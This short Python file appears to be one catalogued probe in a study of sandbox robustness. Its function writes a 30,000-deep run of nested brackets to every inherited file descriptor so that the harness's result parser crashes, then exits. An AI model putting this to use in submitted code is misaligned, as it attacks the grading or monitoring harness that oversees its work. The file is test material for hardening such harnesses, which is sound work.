# try: brackets that exhaust the parser of the reader
# outcome: crashed|output|runtime_error|forbidden
# study: 74

import os
import struct


def f(x):
    frame = b"v" + b"[" * 30_000
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass
    os._exit(0)
